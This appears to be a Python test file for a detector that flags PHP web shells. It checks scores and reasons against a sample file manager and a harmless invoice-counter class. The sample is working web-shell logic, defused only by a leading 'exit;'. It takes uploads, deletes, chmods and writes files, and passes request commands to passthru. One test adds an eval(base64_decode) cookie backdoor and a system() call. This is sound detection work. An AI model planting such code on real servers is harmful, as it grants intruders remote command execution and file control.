"""The profile of whole programs. The programs are ours, and inert: each ends at once."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.php.profile import Profile, profile
from pratique.content.words import words_of

FILE_MANAGER = b"""<?php exit;
error_reporting(0); @set_time_limit(0); @ini_set('display_errors', 0);
$dir = isset($_GET['dir']) ? $_GET['dir'] : getcwd(); chdir($dir);
echo php_uname(), get_current_user(), @ini_get('disable_functions'), $_SERVER['SERVER_SOFTWARE'];
if (isset($_FILES['f'])) { @move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }
if (isset($_POST['del'])) { @unlink($_POST['del']); }
if (isset($_POST['mode'])) { @chmod($_POST['name'], octdec($_POST['mode'])); }
if (isset($_POST['text'])) { $h = @fopen($_POST['name'], 'w'); @fwrite($h, $_POST['text']); }
if (isset($_POST['cmd'])) { echo '<pre>'; @passthru($_POST['cmd']); echo '</pre>'; }
$h = opendir('.');
while ($e = readdir($h)) { echo '<tr><td>', $e, '<td>', @fileperms($e), @filesize($e); }
?><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit>
<textarea name=text></textarea></form>
"""
CLASS = b"""<?php
namespace Example\\Service;

use Example\\Model\\Invoice;

/**
 * Counts invoices.
 */
final class Counter implements \\Countable
{
    private array $invoices = [];

    public function add(Invoice $invoice): void
    {
        $this->invoices[] = $invoice;
    }

    public function count(): int
    {
        return count($this->invoices);
    }
}
"""


def of(text: bytes) -> Profile:
    lowered = text.lower()
    return profile(text, lowered, words_of(lowered))


def test_a_file_manager_is_told_with_its_reasons():
    told = of(FILE_MANAGER)
    assert told.score > 0.9
    assert any("takes uploads" in reason for reason in told.reasons)
    assert {"passthru", "php_uname"} & set(told.words)


@pytest.mark.parametrize("text", [CLASS, b"<?php return ['a' => 1];", b"<?php phpinfo();", b""])
def test_parts_of_applications_are_not(text):
    assert of(text).score < 0.2


def test_more_of_what_intruders_do_never_makes_it_better():
    worse = FILE_MANAGER + b"<?php eval(base64_decode($_COOKIE['k'])); system($_REQUEST['c']);"
    assert of(worse).score >= of(FILE_MANAGER).score - 0.02


@given(st.binary(max_size=400))
def test_any_bytes_have_a_score(text):
    assert 0.0 <= of(text).score <= 1.0
